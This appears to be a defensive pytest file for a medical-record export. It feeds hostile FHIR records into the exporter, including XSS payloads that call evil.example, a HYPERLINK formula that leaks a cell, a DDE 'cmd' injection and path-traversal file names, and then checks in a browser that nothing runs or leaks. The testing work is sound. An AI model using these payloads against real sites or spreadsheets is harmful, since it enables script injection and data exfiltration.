"""A hostile record, taken away and opened in a real browser: nothing runs, no request leaves, no file does harm.

Pictures of the pages are kept beside the test's files: light, dark, and as wide as a phone.
"""

from __future__ import annotations

import base64
import csv
import io
import json
import re
import shutil
import zipfile
from typing import TYPE_CHECKING, Any

import pytest

from charthouse.privacy import requests
from charthouse.privacy.export import job, store
from charthouse.settings import get_settings
from charthouse.state import session
from tests.privacy import stocked

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

    from playwright.sync_api import Browser

SCRIPT = (
    "<script>window.evil=1;fetch('http://evil.example/')</script><img src=http://evil.example/x onerror=window.evil=1>"
)
BREAKOUT = "</script></style>\"'><svg onload=window.evil=1>&lt;b&gt;"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
TITLES = (
    "../../etc/passwd",
    "CON",
    "con.pdf",
    "report\u202egpj.exe",
    "a\x00b\nc\u2028d",
    "x" * 500,
    "NUL ",
    "..",
    "",
    "Ärztebrief.PDF",
)
CHROMIUM = ["--no-sandbox", "--disable-gpu", "--disable-background-networking", "--no-first-run"]
NOTE = 10_000_000
OURS = re.compile(r"#main|\.\./index\.html|(pages/)?[\w-]+\.html(#r\d+)?|\.\./attachments/[\w()%.-]+")
"""What links may lead to."""


SUBJECT = {"subject": {"reference": "Patient/p1"}}
LABORATORY = {"system": "http://terminology.hl7.org/CodeSystem/observation-category", "code": "laboratory"}


def observation(number: int, **said: Any) -> dict[str, Any]:
    """A laboratory result."""
    resource = {"resourceType": "Observation", "id": f"o{number}", "status": "final"} | SUBJECT
    return resource | {"category": [{"coding": [LABORATORY]}], "effectiveDateTime": f"2024-0{number % 9 + 1}-02"} | said


def attachment(title: str, content_type: str, content: bytes, **said: Any) -> dict[str, Any]:
    """An attachment with its data."""
    return {"title": title, "contentType": content_type, "data": base64.b64encode(content).decode()} | said


def hostile() -> Iterator[dict[str, Any]]:
    """A person's records, each as bad as can be."""
    yield {
        "resourceType": "Patient",
        "id": "p1",
        "birthDate": "1950-01-01",
        "name": [{"family": SCRIPT, "given": [BREAKOUT]}],
        "text": {"status": "generated", "div": f"<div xmlns='http://www.w3.org/1999/xhtml'>{SCRIPT}</div>"},
        "link": [{"type": "seealso", "other": {"reference": "javascript:window.evil=1"}}],
    }
    for number, text in enumerate((SCRIPT, BREAKOUT, FORMULA)):
        for twice in range(2):  # a series: it is drawn
            code = {"text": text, "coding": [{"system": "http://loinc.org", "code": f"1-{number}", "display": text}]}
            value = {"value": -1.5 - number, "unit": BREAKOUT}
            yield observation(number + 3 * twice, code=code, valueQuantity=value)
    for number, text in enumerate(("+1 555", "-2", "@SUM(1)", "\t=1", "-1+cmd|' /C calc'!A0", "javascript:evil=1"), 6):
        yield observation(number, code={"text": "words"}, valueString=text)
    attachments = [
        attachment(title, "text/html" if number % 2 else "application/pdf", f"<script>{number}</script>".encode())
        for number, title in enumerate(TITLES)
    ]
    attachments.append({"contentType": "text/plain", "title": "no base64", "data": "%%%"})
    attachments.append(attachment(SCRIPT, "image/svg+xml", SCRIPT.encode(), url="http://evil.example/"))
    document = {"resourceType": "DocumentReference", "status": "current"} | SUBJECT
    yield document | {"id": "d1", "description": BREAKOUT, "content": [{"attachment": each} for each in attachments]}
    long = "a long note " * (NOTE // 12)
    yield document | {"id": "d2", "description": long, "content": [{"attachment": {"title": "empty"}}]}
    note = attachment("Long note", "text/plain", b"long note\n" * (NOTE // 10))
    yield document | {"id": "d3", "content": [{"attachment": note}]}


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Where everything is; the export is unpacked to `mine`."""
    return tmp_path_factory.mktemp("hostile")


@pytest.fixture(scope="module")
def files(folder: Path, prepared_home: Path) -> Iterator[dict[str, bytes]]:
    """The files of the export by their names."""
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("CHARTHOUSE_HOME", str(folder / "home"))
        get_settings.cache_clear()
        shutil.copytree(prepared_home, folder / "home")
        person, link = stocked.new_person()
        stopped = [(SCRIPT.encode(), ["CH201"]), (b'{"resourceType": "../../x", "id": "=1+1"}', ["CH204"])]
        stocked.store(folder / "stock", person, link, [json.dumps(each) for each in hostile()], stopped)
        stocked.publish(folder / "stock", person)
        with session() as state:
            request_id = requests.ask_export(state, person).request_id
        job.run(request_id)
        [part] = store.parts_of(request_id, get_settings())
        content = b"".join(store.read_part(part, get_settings()))
    get_settings.cache_clear()
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        archive.extractall(folder / "mine")
        yield {name: archive.read(name) for name in archive.namelist()}


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    from playwright.sync_api import sync_playwright

    with sync_playwright() as tool:
        opened = tool.chromium.launch(executable_path="/usr/bin/chromium", args=CHROMIUM)
        yield opened
        opened.close()


@pytest.mark.browser
def test_nothing_of_a_record_runs_or_asks(files: dict[str, bytes], browser: Browser, folder: Path) -> None:
    pages = sorted(name for name in files if name.endswith(".html"))
    assert {"index.html", "pages/lab_results.html", "pages/documents.html", "pages/quarantine.html"} <= set(pages)
    assert len(files["pages/other-DocumentReference.html"]) < 100_000, "a note of ten megabytes is not on the page"
    for scripts in (True, False):
        context = browser.new_context(java_script_enabled=scripts, viewport={"width": 360, "height": 740})
        page = context.new_page()
        asked: list[str] = []
        said: list[str] = []
        page.on("request", lambda request, asked=asked: asked.append(request.url))
        page.on("console", lambda message, said=said: said.append(message.text))
        page.on("dialog", lambda dialog, said=said: said.append(dialog.message))
        page.on("pageerror", lambda error, said=said: said.append(str(error)))
        for name in pages:
            page.goto((folder / "mine" / name).as_uri())
            if scripts:
                assert page.evaluate("window.evil") is None, name
                assert page.evaluate("document.documentElement.scrollWidth <= window.innerWidth"), name
                assert (
                    page.evaluate("document.querySelectorAll('img, iframe, object, embed, svg [onload]').length") == 0
                )
                if page.locator("#find").count():
                    page.locator("#find").fill("script")
                    page.wait_for_timeout(200)
            links = [element.get_attribute("href") for element in page.locator("a[href]").all()]
            assert all(OURS.fullmatch(link) for link in links), links
        assert all(url.startswith("file://") for url in asked)
        assert {url for url in asked if "/mine/" in url} == {(folder / "mine" / name).as_uri() for name in pages}
        assert said == []
        context.close()


@pytest.mark.browser
def test_the_overview_finds_and_leads(files: dict[str, bytes], browser: Browser, folder: Path) -> None:
    for name, scheme, width in (("light", "light", 1200), ("dark", "dark", 1200), ("phone", "light", 360)):
        context = browser.new_context(color_scheme=scheme, viewport={"width": width, "height": 900})
        page = context.new_page()
        page.goto((folder / "mine" / "index.html").as_uri())
        page.get_by_label("Search everything").fill("hyperlink")
        page.get_by_role("link", name="HYPERLINK").first.wait_for()
        page.screenshot(path=folder / f"index-{name}.png")
        page.get_by_role("link", name="HYPERLINK").first.click()
        assert page.get_by_role("heading", name="Lab results").is_visible()
        assert page.locator("figure svg[role=img]").count() == 3
        assert FORMULA in page.inner_text("table")
        page.get_by_label("Search this page").fill("@sum")
        page.wait_for_timeout(300)
        assert page.locator("tr[data-row]:visible").count() == 1
        page.screenshot(path=folder / f"labs-{name}.png", full_page=True)
        context.close()


def test_names_and_cells_are_harmless(files: dict[str, bytes]) -> None:
    assert len({name.casefold() for name in files}) == len(files)
    for name in files:
        assert re.fullmatch(r"[\w()\-. ]+(/[\w()\-. ]+)*", name), name
        assert all(part.strip(" .") == part and len(part.encode()) <= 120 for part in name.split("/")), name
        assert not re.match(r"(con|nul|prn|aux|com\d|lpt\d)\b", name.rpartition("/")[2], re.IGNORECASE), name
    attached = {name: text for name, text in files.items() if name.startswith("attachments/")}
    assert len(attached) == len(TITLES) + 2
    assert {name.rpartition(".")[2] for name in attached} == {"pdf", "txt"}
    assert max(map(len, attached.values())) == NOTE
    small = {text for text in attached.values() if len(text) < 50}
    assert small == {f"<script>{number}</script>".encode() for number in range(len(TITLES))}
    csv.field_size_limit(2 * NOTE)
    for name, text in files.items():
        if name.endswith(".csv"):
            for row in csv.reader(io.StringIO(text.decode("utf-8-sig"))):
                for value in row:
                    assert not value.lstrip().startswith(("=", "+", "@")), (name, value)
                    assert not value.startswith("-") or float(value) <= 0, (name, value)
    values = [row["value"] for row in csv.DictReader(io.StringIO(files["tables/lab_results.csv"].decode("utf-8-sig")))]
    assert {"-1.5", "-2.5", "-3.5"} <= set(values), "negative numbers stay numbers"
    everything = [json.dumps(each).encode() for each in hostile()]
    ndjson = [text for name, text in files.items() if re.fullmatch(r"fhir/\w+\.ndjson", name)]
    lines = [line for text in ndjson for line in text.split(b"\n")[:-1]]
    assert sorted(lines) == sorted(everything), "and every record is there, to the byte"
    summary = json.loads(files["ips.json"])
    assert "<script" not in json.dumps([section["text"] for section in summary["entry"][0]["resource"]["section"]])
